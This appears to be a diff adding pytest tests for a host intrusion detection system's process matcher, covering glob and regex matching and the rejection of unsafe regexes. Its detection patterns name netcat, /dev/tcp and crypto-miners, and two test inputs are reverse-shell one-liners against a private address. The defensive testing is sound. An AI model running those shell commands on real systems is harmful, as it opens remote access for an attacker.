@@ -0,0 +1,51 @@
+import logging
+
+import pytest
+
+from conftest import AlertRecorder
+
+
+def test_literals_globs_and_regexes_per_field(ids):
+    matcher = ids.ProcessMatcher(['nc', 'glob:xmr*'], ['sub:/dev/tcp/', r're:\b(nc|ncat)\b.*\s-e\s'], ['glob:/tmp/*'])
+    assert matcher.match_field('name', 'NC') == 'NC'
+    assert matcher.match_field('name', 'xmrig') == 'glob:xmr*'
+    assert matcher.match_field('name', 'ncat') is None
+    assert matcher.match_field('cmdline', 'bash -i >& /dev/tcp/10.0.0.1/4444') == 'sub:/dev/tcp/'
+    assert matcher.match_field('cmdline', 'ncat 10.0.0.1 4444 -e /bin/sh') == r're:\b(nc|ncat)\b.*\s-e\s'
+    assert matcher.match_field('exe', '/tmp/.x/miner') == 'glob:/tmp/*'
+    assert matcher.match_field('exe', '/usr/bin/miner') is None
+
+
+@pytest.mark.parametrize('pattern', [
+    r're:(a)\1',            # مرجع خلفي رقمي (يتغير رقمه بعد الضم)
+    r're:(?P<x>a)(?P=x)',   # مرجع خلفي بالاسم
+    r're:(a)?(?(1)b|c)',    # شرط على مجموعة
+    r're:(?P<p0>evil)',     # اسم مجموعة محجوز
+    r're:a(?i)b',           # علم عام ليس في البداية
+    r're:(unclosed',
+])
+def test_unsafe_regexes_are_rejected_and_others_still_match(ids, pattern):
+    matcher = ids.ProcessMatcher(cmdline_patterns=[pattern, 're:miner', 're:(?P<x>ok)'])
+    assert [entry.split(' (')[0] for entry in matcher.invalid] == [pattern]
+    assert matcher.match_field('cmdline', '/opt/miner --pool x') == 're:miner'
+    assert matcher.match_field('cmdline', 'OK') == 're:(?P<x>ok)'
+    assert matcher.count == 2
+
+
+def test_octal_escape_in_class_and_duplicate_group_names(ids):
+    matcher = ids.ProcessMatcher(cmdline_patterns=[r're:[\1]x', r're:(?P<n>a)b', r're:(?P<n>c)d', r're:\\1'])
+    assert [entry.split(' (')[0] for entry in matcher.invalid] == [r're:(?P<n>c)d']
+    assert matcher.match_field('cmdline', '\x01x') == r're:[\1]x'
+    assert matcher.match_field('cmdline', r'C:\1') == r're:\\1'
+
+
+def test_invalid_pattern_is_logged_not_raised(ids, caplog):
+    saved = dict(ids.config.items('HIDS', raw=True))
+    ids.config.set('HIDS', 'SUSPICIOUS_CMDLINES', r're:(a)\1, re:miner')
+    try:
+        with caplog.at_level(logging.ERROR, logger='IDS'):
+            monitor = ids.ProcessMonitor(AlertRecorder(), ids.config)
+    finally:
+        ids.config.set('HIDS', 'SUSPICIOUS_CMDLINES', saved['suspicious_cmdlines'])
+    assert r're:(a)\1' in caplog.text
+    assert monitor.matcher.match_field('cmdline', 'miner') == 're:miner'